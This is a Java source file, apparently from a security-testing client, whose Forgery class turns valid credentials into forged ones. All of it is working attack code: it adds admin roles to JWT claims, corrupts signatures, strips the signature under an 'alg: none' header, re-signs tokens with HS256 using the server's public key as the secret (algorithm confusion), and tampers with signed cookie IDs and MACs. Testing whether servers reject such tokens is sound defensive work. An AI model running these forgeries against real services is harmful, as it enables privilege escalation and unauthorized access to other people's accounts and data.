package org.cardorticket.client;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.Base64;
import java.util.Optional;
import java.util.Set;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.cardorticket.trace.Wallet;

/// Makes forged credentials out of honest ones.
final class Forgery {

    private static final JsonMapper MAPPER = new JsonMapper();

    /// What a wallet may hold besides the credential that opens resources.
    private static final Set<String> OTHERS = Set.of("refresh_token", "csrf_token");

    private Forgery() {}

    /// The credential in `wallet` that opens resources, forged by `tampering`; empty where the
    /// wallet holds none of the kind that can be forged so, or the server has no public key.
    static Optional<Wallet.Item> of(
            Tampering tampering, Wallet wallet, Optional<String> publicKey) {
        return wallet.items().stream()
                .filter(item -> !OTHERS.contains(item.name()))
                .findFirst()
                .flatMap(item ->
                        forged(tampering, item.value(), publicKey)
                                .map(value -> new Wallet.Item(item.place(), item.name(), value)));
    }

    private static Optional<String> forged(
            Tampering tampering, String value, Optional<String> publicKey) {
        String[] parts = value.split("\\.", -1);
        boolean ticket = parts.length == 3;
        boolean card = parts.length == 2;
        return switch (tampering) {
            case CLAIM ->
                    only(ticket)
                            .flatMap(_ -> admin(parts[1]))
                            .map(c -> join(parts[0], c, parts[2]));
            case SIGNATURE -> only(ticket).map(_ -> join(parts[0], parts[1], flip(parts[2])));
            case ALG_NONE ->
                    only(ticket)
                            .flatMap(_ -> admin(parts[1]))
                            .flatMap(claims ->
                                    header(parts[0], "none").map(h -> join(h, claims, "")));
            case ALG_CONFUSION ->
                    only(ticket && publicKey.isPresent())
                            .flatMap(_ -> admin(parts[1]))
                            .flatMap(claims ->
                                    header(parts[0], "HS256")
                                            .map(h -> sign(h + "." + claims, publicKey.get())));
            case COOKIE_ID -> only(card).map(_ -> flip(parts[0]) + "." + parts[1]);
            case COOKIE_MAC -> only(card).map(_ -> parts[0] + "." + flip(parts[1]));
        };
    }

    private static Optional<Boolean> only(boolean possible) {
        return Optional.of(possible).filter(yes -> yes);
    }

    private static String join(String header, String claims, String signature) {
        return header + "." + claims + "." + signature;
    }

    /// Another first character, of the same alphabet; the last one may hold unused bits.
    private static String flip(String text) {
        return (text.startsWith("a") ? "b" : "a") + text.substring(1);
    }

    private static Optional<String> admin(String part) {
        return edit(part)
                .map(claims -> {
                    claims.putArray("roles").add("admin").add("editor").add("reader");
                    return encode(claims.toString());
                });
    }

    private static Optional<String> header(String part, String alg) {
        return edit(part).map(header -> encode(header.put("alg", alg).toString()));
    }

    private static Optional<ObjectNode> edit(String part) {
        try {
            byte[] json = Base64.getUrlDecoder().decode(part);
            String text = new String(json, StandardCharsets.UTF_8);
            return MAPPER.readTree(text) instanceof ObjectNode object
                    ? Optional.of(object)
                    : Optional.empty();
        } catch (JsonProcessingException | IllegalArgumentException _) {
            return Optional.empty();
        }
    }

    private static String encode(String json) {
        return encode(json.getBytes(StandardCharsets.UTF_8));
    }

    private static String encode(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }

    private static String sign(String input, String secret) {
        try {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(secret.getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
            return input + "." + encode(mac.doFinal(input.getBytes(StandardCharsets.UTF_8)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException("every Java platform has HmacSHA256", e);
        }
    }
}
